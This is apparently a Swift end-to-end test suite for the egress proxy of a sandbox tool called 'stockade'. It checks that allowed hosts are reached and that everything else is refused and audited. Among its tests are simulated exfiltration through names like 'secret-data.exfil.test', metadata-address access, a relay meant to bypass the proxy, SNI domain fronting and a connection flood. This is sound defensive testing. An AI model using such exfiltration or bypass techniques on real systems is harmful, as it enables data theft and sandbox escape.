import Foundation
import Testing

/// `network.mode: "proxy"` with the real binary: curl inside the worker, upstream
/// servers on the host's 127.0.0.1 only, test names pinned through `network.hosts`
/// (no name in these tests is ever sent to a DNS server).
@Suite("egress through the audited proxy, end to end", .serialized,
       .enabled(if: Harness.canSandbox, "needs root and user namespaces (run the suite as root on Linux)"), .timeLimit(.minutes(3)))
struct EgressTests {
    /// A TCP socket listening on `address` (127.0.0.1) and `port` (0: one the kernel picks), with that port.
    static func tcpListener(address: UInt32 = 0x7F00_0001, port: UInt16 = 0) throws -> (fd: Int32, port: UInt16) {
        let sock = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var a = sockaddr_in()
        a.sin_family = sa_family_t(AF_INET)
        a.sin_addr.s_addr = address.bigEndian
        a.sin_port = port.bigEndian
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let ok = withUnsafeMutablePointer(to: &a) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(sock, $0, len) == 0 && listen(sock, 64) == 0 && getsockname(sock, $0, &len) == 0 }
        }
        try #require(ok)
        return (sock, UInt16(bigEndian: a.sin_port))
    }

    /// A host-side HTTP server on 127.0.0.1 answering every request with `body`; counts connections.
    final class Upstream: @unchecked Sendable {
        let fd: Int32
        let port: UInt16
        private let lock = NSLock()
        private var count = 0
        var connections: Int { lock.withLock { count } }

        init(body: String, address: UInt32 = 0x7F00_0001, listenPort: UInt16 = 0) throws {
            (fd, port) = try EgressTests.tcpListener(address: address, port: listenPort)
            let response = Array("HTTP/1.0 200 OK\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)".utf8)
            let fd = self.fd
            Thread { [self] in
                while true {
                    let c = accept(fd, nil, nil)
                    if c < 0 { return }
                    lock.withLock { count += 1 }
                    var scratch = [UInt8](repeating: 0, count: 8192)
                    _ = recv(c, &scratch, scratch.count, 0)
                    var off = 0
                    while off < response.count {
                        let n = response[off...].withUnsafeBytes { send(c, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
                        if n <= 0 { break }
                        off += n
                    }
                    close(c)
                }
            }.start()
        }

        func stop() {
            shutdown(fd, Int32(SHUT_RDWR))
            close(fd)
        }
    }

    /// A profile file in the test's state directory (removed with it).
    /// A DNS server on 127.0.0.1 (UDP) that records every name it is asked and answers 127.0.0.1.
    final class CountingDNS: @unchecked Sendable {
        let fd: Int32
        let port: UInt16
        private let lock = NSLock()
        private var asked: [String] = []
        var names: [String] { lock.withLock { asked } }

        init() throws {
            let sock = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
            fd = sock
            var a = sockaddr_in()
            a.sin_family = sa_family_t(AF_INET)
            a.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
            var len = socklen_t(MemoryLayout<sockaddr_in>.size)
            let ok = withUnsafeMutablePointer(to: &a) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(sock, $0, len) == 0 && getsockname(sock, $0, &len) == 0 }
            }
            try #require(ok)
            port = UInt16(bigEndian: a.sin_port)
            Thread { [self] in
                var buffer = [UInt8](repeating: 0, count: 1500)
                while true {
                    var from = sockaddr_storage()
                    var fromLength = socklen_t(MemoryLayout<sockaddr_storage>.size)
                    let n = withUnsafeMutablePointer(to: &from) {
                        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { recvfrom(sock, &buffer, buffer.count, 0, $0, &fromLength) }
                    }
                    if n <= 0 { return }
                    let q = Array(buffer[0..<n])
                    var labels: [String] = [], i = 12
                    while i < q.count, q[i] != 0, i + 1 + Int(q[i]) <= q.count {
                        labels.append(String(decoding: q[(i + 1)..<(i + 1 + Int(q[i]))], as: UTF8.self))
                        i += 1 + Int(q[i])
                    }
                    lock.withLock { asked.append(labels.joined(separator: ".")) }
                    guard i + 5 <= q.count else { continue }
                    var r = Array(q[0..<(i + 5)])
                    r[2] = 0x81; r[3] = 0x80; r[6] = 0; r[7] = 1
                    r += [0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 127, 0, 0, 1]
                    _ = withUnsafePointer(to: &from) {
                        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { sendto(sock, r, r.count, 0, $0, fromLength) }
                    }
                }
            }.start()
        }

        func stop() {
            shutdown(fd, Int32(SHUT_RDWR))
            close(fd)
        }
    }

    static func profile(_ json: String) throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("stockade-egress-\(UUID().uuidString).json").path
        try Data(json.utf8).write(to: URL(fileURLWithPath: path))
        return path
    }

    /// A profile admitting `allowed.test` on the upstream's port, pinned to 127.0.0.1.
    static func loopbackProfile(_ port: UInt16, extra: String = "") throws -> String {
        try profile("""
            {"extends": "default", "network": {"mode": "proxy",
              "egress": {"allow": ["allowed.test:\(port)", "meta.test:\(port)"], "allowPrivate": true \(extra)},
              "hosts": {"allowed.test": "127.0.0.1", "meta.test": "169.254.169.254"}}}
            """)
    }

    static func curl(_ args: String) -> String {
        "/usr/bin/curl -sS --max-time 10 -o - -w ' code=%{http_code} connect=%{http_connect}\\n' \(args) 2>&1 || true"
    }

    @Test("an allowed pinned name is fetched through HTTP_PROXY (plain HTTP), CONNECT and SOCKS5, each on record")
    func allowedName() throws {
        let upstream = try Upstream(body: "hello from the host")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let url = "http://allowed.test:\(upstream.port)/x"
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            echo "proxy=$http_proxy $HTTPS_PROXY $ALL_PROXY"
            \(Self.curl(url))
            \(Self.curl("--proxytunnel \(url)"))
            \(Self.curl("--proxy socks5h://127.0.0.1:3128 \(url)"))
            """])
        let report = try r.report()
        let out = report.string("stdout") ?? ""
        #expect(out.contains("proxy=http://127.0.0.1:3128 http://127.0.0.1:3128 socks5h://127.0.0.1:3128"), "\(out)")
        #expect(out.components(separatedBy: "hello from the host code=200").count == 4, "\(out) \(r.stderr)")
        #expect(upstream.connections == 3)
        let egress = try #require(report["egress"] as? [String: Any])
        #expect((egress["allowed"] as? NSNumber)?.intValue == 3 && (egress["denied"] as? NSNumber)?.intValue == 0)
        #expect(((egress["bytesIn"] as? NSNumber)?.intValue ?? 0) > 3 * 19)
        let events = try auditEvents(h).filter { ($0["kind"] as? String)?.hasPrefix("egress.") == true }
        // Each connection on record as it opens and again as it ends, under the same number.
        #expect(events.map { $0["kind"] as? String } == ["egress.opened", "egress.allowed", "egress.opened", "egress.allowed", "egress.opened", "egress.allowed"])
        let numbers = events.map { (($0["detail"] as? [String: Any])?["connection"] as? NSNumber)?.intValue }
        #expect(numbers == [1, 1, 2, 2, 3, 3], "\(numbers)")
        let detail = try #require(events.first { $0["kind"] as? String == "egress.allowed" }?["detail"] as? [String: Any])
        let opened = try #require(events.first?["detail"] as? [String: Any])
        #expect(opened["host"] as? String == "allowed.test" && opened["address"] as? String == "127.0.0.1" && opened["bytesOut"] == nil, "\(opened)")
        #expect(detail["host"] as? String == "allowed.test" && detail["address"] as? String == "127.0.0.1"
                && detail["rule"] as? String == "allowed.test:\(upstream.port)", "\(detail)")
    }

    @Test("an upload of unknown length (curl -T -, chunked) goes through the proxy whole, as the worker sent it")
    func chunkedUpload() throws {
        // An upstream that keeps what it is sent until the chunked body's last chunk, then answers.
        final class Recorder: @unchecked Sendable {
            let upstream: Int32
            let port: UInt16
            let requests = NSLock()
            private var got: [String] = []
            var received: [String] { requests.withLock { got } }
            init() throws {
                (upstream, port) = try EgressTests.tcpListener()
                let sock = upstream
                Thread { [self] in
                    while true {
                        let c = accept(sock, nil, nil)
                        if c < 0 { return }
                        var text: [UInt8] = []
                        var scratch = [UInt8](repeating: 0, count: 4096)
                        while !String(decoding: text, as: UTF8.self).contains("\r\n0\r\n\r\n") {
                            var p = pollfd(fd: c, events: Int16(POLLIN), revents: 0)
                            guard poll(&p, 1, 5000) > 0 else { break }
                            let n = recv(c, &scratch, scratch.count, 0)
                            if n <= 0 { break }
                            text += scratch[0..<n]
                        }
                        requests.withLock { got.append(String(decoding: text, as: UTF8.self)) }
                        let answer = Array("HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nreceived".utf8)
                        _ = answer.withUnsafeBytes { send(c, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
                        close(c)
                    }
                }.start()
            }
        }
        let upstream = try Recorder()
        defer { shutdown(upstream.upstream, Int32(SHUT_RDWR)); close(upstream.upstream) }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            printf 'a body of unknown length' | \(Self.curl("-H 'Expect:' -T - http://allowed.test:\(upstream.port)/up"))
            """])
        let out = try r.report().string("stdout") ?? ""
        #expect(out.contains("received code=200"), "\(out) \(r.stderr)")
        let request = try #require(upstream.received.first, "nothing reached the upstream: \(out)")
        #expect(request.hasPrefix("PUT /up HTTP/1.1\r\nHost: allowed.test:\(upstream.port)\r\n"), "\(request)")
        #expect(request.lowercased().contains("\r\ntransfer-encoding: chunked\r\n"), "\(request)")
        // The data arrives whole, in the proxy's own chunks (one or more, as the worker's writes came).
        let bytes = Array(request.utf8)
        var i = (0..<(bytes.count - 3)).first { bytes[$0..<($0 + 4)] == [13, 10, 13, 10] }.map { $0 + 4 } ?? bytes.count
        var data: [UInt8] = []
        while let lineEnd = (i..<max(i, bytes.count - 1)).first(where: { bytes[$0] == 13 && bytes[$0 + 1] == 10 }),
              let size = Int(String(decoding: bytes[i..<lineEnd], as: UTF8.self), radix: 16), size > 0, lineEnd + 2 + size <= bytes.count {
            data += bytes[(lineEnd + 2)..<(lineEnd + 2 + size)]
            i = lineEnd + 2 + size + 2
        }
        #expect(String(decoding: data, as: UTF8.self) == "a body of unknown length" && i <= bytes.count
                && String(decoding: bytes[i...], as: UTF8.self) == "0\r\n\r\n", "\(request)")
    }

    @Test("a denied name, an IP literal, metadata, another port and a direct connection are refused and on record")
    func refusals() throws {
        let upstream = try Upstream(body: "must not be reached")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let port = upstream.port
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            \(Self.curl("--proxytunnel http://denied.test:\(port)/"))
            \(Self.curl("http://127.0.0.2:\(port)/"))
            \(Self.curl("--proxytunnel http://meta.test:\(port)/"))
            \(Self.curl("--proxytunnel http://allowed.test:\(port + 1)/"))
            \(Self.curl("--noproxy '*' http://127.0.0.1:\(port)/"))
            """])
        let report = try r.report()
        let out = report.string("stdout") ?? ""
        #expect(!out.contains("must not be reached"), "\(out)")
        #expect(upstream.connections == 0, "the upstream was reached")
        #expect(out.contains("Failed to connect to 127.0.0.1 port \(port)") || out.contains("Couldn't connect"), "direct: \(out)")
        #expect(out.components(separatedBy: "=403").count == 5, "four refusals: \(out)")
        let violations = try #require(report["violations"] as? [[String: Any]])
        let refused = violations.filter { $0["kind"] as? String == "egress" }.map { "\($0["host"] ?? "-") \($0["reason"] ?? "-")" }
        #expect(refused == ["denied.test not-allowed", "127.0.0.2 ip-literal", "meta.test link-local-address",
                            "allowed.test port-not-allowed"], "\(refused)")
        let denied = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
        #expect(denied.count == 4)
        #expect((denied.first?["detail"] as? [String: Any])?["host"] as? String == "denied.test")
    }

    @Test("the proxy listens before the worker's first instruction: a static probe's immediate connect always succeeds")
    func listensBeforeTheWorkerRuns() throws {
        // With the listener made after the spawn returned, 9 of 10 of these were refused (ECONNREFUSED).
        let h = try Harness()
        let p = try Self.profile(#"{"extends": "default", "network": {"mode": "proxy", "egress": {"allow": ["allowed.test"]}}}"#)
        defer { try? FileManager.default.removeItem(atPath: p) }
        for attempt in 0..<10 {
            let r = try h.probe("host-loopback", ["3128"], options: ["--profile", p])
            #expect(try r.report().string("stdout")?.hasPrefix("host-loopback: connected to 127.0.0.1:3128") == true,
                    "attempt \(attempt): \(r.stdout)")
        }
        // Negative control: without proxy mode nothing listens there.
        let plain = try h.probe("host-loopback", ["3128"], options: ["--network", "loopback"])
        #expect(try plain.report().string("stdout")?.contains("ECONNREFUSED") == true, "\(plain.stdout)")
    }

    @Test("a relay the worker runs itself reaches only the proxy: a denied name through it is still refused")
    func relayInsideTheWorker() throws {
        let upstream = try Upstream(body: "through the relay")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port)
        defer { try? FileManager.default.removeItem(atPath: p) }
        // A second HTTP proxy in the worker: it relays every connection to the only way out it has.
        let relay = """
            import socket, threading
            def pipe(a, b):
                while (d := a.recv(65536)): b.sendall(d)
                b.shutdown(socket.SHUT_WR)
            l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            l.bind(("127.0.0.1", 8080)); l.listen(8)
            while True:
                c, _ = l.accept(); u = socket.create_connection(("127.0.0.1", 3128))
                threading.Thread(target=pipe, args=(c, u), daemon=True).start()
                threading.Thread(target=pipe, args=(u, c), daemon=True).start()
            """
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            /usr/bin/python3 -c '\(relay)' & sleep 0.5
            \(Self.curl("--proxy http://127.0.0.1:8080 --noproxy '' --proxytunnel http://denied.test:\(upstream.port)/"))
            \(Self.curl("--proxy http://127.0.0.1:8080 --noproxy '' http://allowed.test:\(upstream.port)/"))
            kill %1
            """])
        let out = try r.report().string("stdout") ?? ""
        #expect(out.contains("connect=403"), "\(out) \(r.stderr)")
        // Positive control: the relay itself works, for a name the rules admit.
        #expect(out.contains("through the relay code=200"), "\(out)")
        #expect(upstream.connections == 1)
        let denied = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
        #expect(denied.count == 1 && (denied.first?["detail"] as? [String: Any])?["host"] as? String == "denied.test")
    }

    @Test("a denied name never reaches the DNS server; an admitted one is asked once and fetched")
    func deniedNamesAreNeverResolved() throws {
        let upstream = try Upstream(body: "resolved")
        defer { upstream.stop() }
        let dns = try CountingDNS()
        defer { dns.stop() }
        let h = try Harness()
        // No pinned names: every address comes from the counting server.
        let p = try Self.profile("""
            {"extends": "default", "network": {"mode": "proxy", "egress": {"allow": ["allowed.test:\(upstream.port)"],
              "allowPrivate": true, "resolver": "127.0.0.1:\(dns.port)"}}}
            """)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            \(Self.curl("--proxytunnel http://secret-data.exfil.test:\(upstream.port)/"))
            \(Self.curl("--proxy socks5h://127.0.0.1:3128 http://more-secret-data.exfil.test:\(upstream.port)/"))
            \(Self.curl("http://allowed.test:\(upstream.port + 1)/"))
            \(Self.curl("http://allowed.test:\(upstream.port)/"))
            """])
        let out = try r.report().string("stdout") ?? ""
        #expect(out.contains("resolved code=200"), "\(out) \(r.stderr)")
        #expect(dns.names == ["allowed.test"], "the DNS server was asked: \(dns.names)")
        let denied = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
            .compactMap { ($0["detail"] as? [String: Any])?["host"] as? String }
        #expect(denied == ["secret-data.exfil.test", "more-secret-data.exfil.test", "allowed.test"], "\(denied)")
    }

    @Test("a name pinned to loopback is refused without allowPrivate")
    func loopbackNeedsAllowPrivate() throws {
        let upstream = try Upstream(body: "private")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.profile("""
            {"extends": "default", "network": {"mode": "proxy", "egress": {"allow": ["allowed.test:\(upstream.port)"]},
              "hosts": {"allowed.test": "127.0.0.1"}}}
            """)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", Self.curl("--proxytunnel http://allowed.test:\(upstream.port)/")])
        let report = try r.report()
        #expect((report.string("stdout") ?? "").contains("403"), "\(report)")
        #expect(upstream.connections == 0)
        let v = try #require((report["violations"] as? [[String: Any]])?.first)
        #expect(v["reason"] as? String == "loopback-address")
    }

    @Test("--network proxy --allow-host admits a name from the command line")
    func allowHostFlag() throws {
        let upstream = try Upstream(body: "flag")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.profile("""
            {"extends": "default", "network": {"egress": {"allowPrivate": true}, "hosts": {"allowed.test": "127.0.0.1"}}}
            """)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let r = try h.run(["--profile", p, "--network", "proxy", "--allow-host", "allowed.test:\(upstream.port)"],
                          ["/bin/sh", "-c", Self.curl("http://allowed.test:\(upstream.port)/")])
        #expect((try r.report().string("stdout") ?? "").contains("flag code=200"), "\(r.stdout)")
        let bad = try h.stockade(["run", "--network", "proxy", "--allow-host", "bad host", "--", "/bin/true"])
        #expect(bad.status != 0 && bad.stderr.contains("--allow-host"))
    }

    @Test("the connection after maxConnections and the byte cap are refused and recorded as limit.hit")
    func limits() throws {
        let upstream = try Upstream(body: String(repeating: "x", count: 200_000))
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port, extra: #", "maxConnections": 3, "maxBytes": "64k""#)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let url = "http://allowed.test:\(upstream.port)/"
        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
            \(Self.curl("-o /dev/null \(url)"))
            \(Self.curl("--proxytunnel http://denied.test/"))
            \(Self.curl("--proxytunnel http://denied.test/"))
            \(Self.curl("--proxytunnel \(url)"))
            """])
        let report = try r.report()
        let out = report.string("stdout") ?? ""
        #expect(out.contains("code=429") || out.contains("429"), "\(out)")
        let egress = try #require(report["egress"] as? [String: Any])
        #expect((egress["connections"] as? NSNumber)?.intValue == 4)
        #expect(((egress["bytesIn"] as? NSNumber)?.intValue ?? 0) <= 64 << 10)
        let limits = try auditEvents(h).filter { $0["kind"] as? String == "limit.hit" }
            .compactMap { ($0["detail"] as? [String: Any])?["limit"] as? String }
        #expect(limits == ["egress.bytes", "egress.connections"], "\(limits)")
    }

    @Test("a 1 MB header line and a CONNECT that never finishes leave the supervisor and the proxy answering")
    func hostileRequests() throws {
        let upstream = try Upstream(body: "still here")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.loopbackProfile(upstream.port)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let script = """
            import socket, time
            slow = socket.create_connection(("127.0.0.1", 3128)); slow.send(b"CONNECT allowed.test:")
            big = socket.create_connection(("127.0.0.1", 3128))
            try:
                big.sendall(b"GET http://allowed.test:\(upstream.port)/ HTTP/1.1\\r\\nX: " + b"A" * (1 << 20) + b"\\r\\n\\r\\n")
                print("big:", big.recv(64)[:12])
            except OSError as e:
                print("big: reset")
            ok = socket.create_connection(("127.0.0.1", 3128))
            ok.sendall(b"GET http://allowed.test:\(upstream.port)/ HTTP/1.1\\r\\n\\r\\n")
            print("ok:", b"still here" in ok.recv(4096))
            """
        let r = try h.run(["--profile", p], ["/usr/bin/python3", "-c", script])
        let out = try r.report().string("stdout") ?? ""
        #expect(out.contains("ok: True"), "\(out) \(r.stderr)")
        #expect(out.contains("big: b'HTTP/1.1 431'") || out.contains("big: reset"), "\(out)")
        let reasons = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
            .compactMap { ($0["detail"] as? [String: Any])?["reason"] as? String }
        #expect(reasons.contains("request-too-large"), "\(reasons)")
        // The slow one ends with the run (stopped) or at the head timeout: either way, on record.
        #expect(reasons.count == 2, "\(reasons)")
    }

    @Test("a TLS ClientHello naming another host than the CONNECT is refused; the same name is relayed")
    func domainFronting() throws {
        // Port 443 on a loopback address of its own (the check applies to port 443).
        let last = UInt32.random(in: 2...250)
        let upstream = try Upstream(body: "not tls", address: 0x7F00_0000 | last, listenPort: 443)
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.profile("""
            {"extends": "default", "network": {"mode": "proxy", "egress": {"allow": ["tls.test:443"], "allowPrivate": true},
              "hosts": {"tls.test": "127.0.0.\(last)"}}}
            """)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let script = """
            import socket, ssl
            def tunnel(sni):
                s = socket.create_connection(("127.0.0.1", 3128))
                s.sendall(b"CONNECT tls.test:443 HTTP/1.1\\r\\n\\r\\n")
                print(sni, s.recv(4096)[:12])
                ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
                try:
                    ctx.wrap_socket(s, server_hostname=sni)
                except Exception as e:
                    print(sni, "handshake failed")
            tunnel("evil.test"); tunnel("tls.test")
            """
        let r = try h.run(["--profile", p], ["/usr/bin/python3", "-c", script])
        let out = try r.report().string("stdout") ?? ""
        #expect(out.contains("evil.test b'HTTP/1.1 200'") && out.contains("tls.test b'HTTP/1.1 200'"), "\(out) \(r.stderr)")
        let events = try auditEvents(h).filter { ($0["kind"] as? String)?.hasPrefix("egress.") == true }
        // The refused tunnel was never opened for relaying; the matching one was, and then ended.
        #expect(events.map { $0["kind"] as? String } == ["egress.denied", "egress.opened", "egress.allowed"], "\(events)")
        let denied = try #require(events.first { $0["kind"] as? String == "egress.denied" }?["detail"] as? [String: Any])
        #expect(denied["reason"] as? String == "sni-mismatch" && (denied["bytesOut"] as? NSNumber)?.intValue == 0, "\(denied)")
        // Positive control: the matching name's ClientHello went through.
        let allowed = try #require(events.first { $0["kind"] as? String == "egress.allowed" }?["detail"] as? [String: Any])
        #expect(((allowed["bytesOut"] as? NSNumber)?.intValue ?? 0) > 100, "\(allowed)")
        let v = try #require((try r.report()["violations"] as? [[String: Any]])?.first)
        #expect(v["reason"] as? String == "sni-mismatch")
    }

    @Test("10,000 connections: past maxConnections each is refused at once, the trail stays bounded and the run ends")
    func manyConnections() throws {
        let h = try Harness()
        let p = try Self.loopbackProfile(9, extra: "")
        defer { try? FileManager.default.removeItem(atPath: p) }
        let script = """
            import socket
            refused = 0
            for i in range(10000):
                s = socket.create_connection(("127.0.0.1", 3128))
                if i >= 64:
                    s.sendall(b"CONNECT allowed.test:9 HTTP/1.1\\r\\n\\r\\n")
                    try:
                        refused += s.recv(64).startswith(b"HTTP/1.1 429")
                    except OSError:
                        pass
                s.close()
            print("refused", refused)
            """
        let started = Date()
        let r = try h.run(["--profile", p, "--timeout", "120"], ["/usr/bin/python3", "-c", script])
        let report = try r.report()
        #expect(report.string("outcome") == "exited", "\(report)")
        let out = report.string("stdout") ?? ""
        let refused = Int(out.split(separator: " ").last?.trimmingCharacters(in: .whitespacesAndNewlines) ?? "") ?? 0
        #expect(refused > 9000, "\(out) \(r.stderr)")
        let egress = try #require(report["egress"] as? [String: Any])
        #expect((egress["connections"] as? NSNumber)?.intValue == 10000)
        let rows = try auditEvents(h).filter { ($0["kind"] as? String)?.hasPrefix("egress.") == true }
        #expect(rows.count == 65, "64 served connections and one for the limit: \(rows.count)")
        #expect(Date().timeIntervalSince(started) < 100)
    }

    @Test("a batch line's allowHosts admits a name; run.created records the rules the proxy enforced; a bad entry names its field")
    func batchAllowHosts() throws {
        let upstream = try Upstream(body: "batch")
        defer { upstream.stop() }
        let h = try Harness()
        let p = try Self.profile("""
            {"extends": "default", "network": {"egress": {"allowPrivate": true}, "hosts": {"allowed.test": "127.0.0.1"}}}
            """)
        defer { try? FileManager.default.removeItem(atPath: p) }
        let line = """
            {"id": "a", "profile": "\(p)", "network": "proxy", "allowHosts": ["allowed.test:\(upstream.port)"], \
            "command": ["/bin/sh", "-c", "\(Self.curl("http://allowed.test:\(upstream.port)/").replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\""))"]}
            {"id": "b", "network": "loopback", "allowHosts": ["allowed.test"], "command": ["/bin/true"]}
            {"id": "c", "network": "proxy", "allowHosts": ["bad host"], "command": ["/bin/true"]}
            """
        let r = try h.stockade(["batch", "-"], stdin: line + "\n")
        let reports = r.stdout.split(separator: "\n").compactMap {
            try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
        }
        var byId: [String: [String: Any]] = [:]
        for report in reports { if let id = report["id"] as? String { byId[id] = report } }
        let stdoutA = (byId["a"]?["stdout"] as? String) ?? ""
        let messageB = ((byId["b"]?["setupError"] as? [String: Any])?["message"] as? String) ?? ""
        let messageC = ((byId["c"]?["setupError"] as? [String: Any])?["message"] as? String) ?? ""
        #expect(stdoutA.contains("batch code=200"), "\(r.stdout) \(r.stderr)")
        #expect(byId["b"]?["outcome"] as? String == "setup-failed")
        #expect(messageB.contains("allowHosts needs network proxy"), "\(r.stdout)")
        #expect(messageC.contains("allowHosts[0]"), "\(r.stdout)")
        // The run's own record of what the proxy enforced: the profile's settings and the line's rule.
        let created = try #require(try auditEvents(h).first { $0["kind"] as? String == "run.created" && $0["runId"] as? String == byId["a"]?["runId"] as? String })
        let egress = try #require((created["detail"] as? [String: Any])?["egress"] as? [String: Any], "\(created)")
        #expect(egress["allow"] as? [String] == ["allowed.test:\(upstream.port)"])
        #expect(egress["allowPrivate"] as? Bool == true)
        #expect((egress["hosts"] as? [String: String])?["allowed.test"] == "127.0.0.1")
    }

    @Test("stockade verify proves the egress controls: a denied name, an IP literal, a private address, a direct connection")
    func verifyEgressControls() throws {
        let h = try Harness()
        let r = try h.stockade(["verify", "--json", "--only", "egress.*"])
        let report = try #require(try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any], "\(r.stdout) \(r.stderr)")
        let controls = try #require(report["controls"] as? [[String: Any]])
        #expect(Set(controls.compactMap { $0["id"] as? String }) == ["egress.denied-name", "egress.ip-literal", "egress.private-address", "egress.direct"])
        for c in controls {
            #expect(c["verdict"] as? String == "enforced", "\(c)")
            // Positive control: unsandboxed, the same destination answers a direct connection.
            #expect(((c["positiveControl"] as? [String: Any])?["exitCode"] as? NSNumber)?.intValue == 77, "\(c)")
        }
        #expect(r.status == 0)
        // Host side: the proxy's own records of each refusal, with its reason, in the audit trail.
        let reasons = Set(try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
            .compactMap { ($0["detail"] as? [String: Any])?["reason"] as? String })
        #expect(reasons.isSuperset(of: ["not-allowed", "ip-literal", "loopback-address"]), "\(reasons)")
        // The admitted name got through first in the same runs: the proxy was working when it refused.
        let allowed = try auditEvents(h).filter { $0["kind"] as? String == "egress.allowed" }
            .compactMap { ($0["detail"] as? [String: Any])?["host"] as? String }
        #expect(allowed.filter { $0 == "admitted.verify.stockade.invalid" }.count == 2, "\(allowed)")
    }
}
